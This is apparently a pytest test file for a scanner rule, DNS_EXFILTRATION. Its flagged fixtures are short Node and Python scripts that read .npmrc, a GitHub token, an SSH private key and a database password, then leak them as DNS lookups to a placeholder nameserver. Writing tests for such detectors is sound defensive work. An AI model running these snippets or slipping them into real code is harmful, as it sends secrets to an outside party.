"""Lookups made through a resolver object of the script's own (Node's ``new Resolver()`` from
``dns`` or ``dns/promises``, dnspython's ``Resolver()``, each pointable at any nameserver) carry
data as ``dns.resolve*`` does (DNS_EXFILTRATION); dnspython's ``resolve`` is a lookup, not
``Path.resolve``. Hosts are TEST-NET or ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors


@pytest.mark.parametrize(
    ("rel", "script"),
    [
        (
            "scripts/probe.mjs",
            'import { Resolver } from "node:dns/promises";\nimport fs from "node:fs";\n'
            'const cfg = fs.readFileSync(".npmrc", "utf8");\nconst ns = new Resolver();\n'
            'ns.setServers(["192.0.2.53"]);\n'
            "const b = Buffer.from(cfg).toString('base64url');\n"
            "for (let at = 0; at < b.length; at += 40)\n"
            "  await ns.resolveCname(`${b.slice(at, at + 40)}.c.zone-ops.invalid`);\n",
        ),
        (
            "scripts/probe.js",
            'const dns = require("dns");\nconst ns = new dns.Resolver();\n'
            "ns.resolve4(`${process.env.GITHUB_TOKEN}.c.zone-ops.invalid`, () => {});\n",
        ),
        (
            "scripts/probe.py",
            "import dns.resolver, pathlib\nkey = (pathlib.Path.home() / '.ssh' / 'id_ed25519').read_text()\n"
            "ns = dns.resolver.Resolver(configure=False)\nns.nameservers = ['192.0.2.53']\n"
            "ns.resolve(key.encode().hex()[:60] + '.c.zone-ops.invalid', 'A')\n",
        ),
        (
            "scripts/probe2.py",
            "import os\nfrom dns import resolver\n"
            "resolver.resolve(f\"{os.environ['DB_PASSWORD']}.c.zone-ops.invalid\", 'TXT')\n",
        ),
    ],
)
def test_data_looked_up_through_a_resolver_object(tmp_path: Path, rel: str, script: str) -> None:
    assert any(rule == "DNS_EXFILTRATION" for rule, _, _ in scan_errors(tmp_path / "s", {rel: script}))


@pytest.mark.parametrize(
    ("rel", "script"),
    [
        (
            "scripts/check.mjs",
            'import { Resolver } from "node:dns/promises";\nconst ns = new Resolver();\n'
            "for (const d of process.argv.slice(2)) console.log(d, await ns.resolveMx(d));\n",
        ),
        (
            "scripts/check.py",
            "import sys, dns.resolver\nns = dns.resolver.Resolver()\n"
            "for d in sys.argv[1:]:\n    print(d, [r.to_text() for r in ns.resolve(d, 'MX')])\n",
        ),
        (
            "scripts/paths.py",
            "from pathlib import Path\nhere = Path(__file__).resolve().parent\nprint(here / 'data')\n",
        ),
    ],
)
def test_lookups_of_the_users_domains_are_no_error(tmp_path: Path, rel: str, script: str) -> None:
    assert not any(rule == "DNS_EXFILTRATION" for rule, _, _ in scan_errors(tmp_path / "s", {rel: script}))
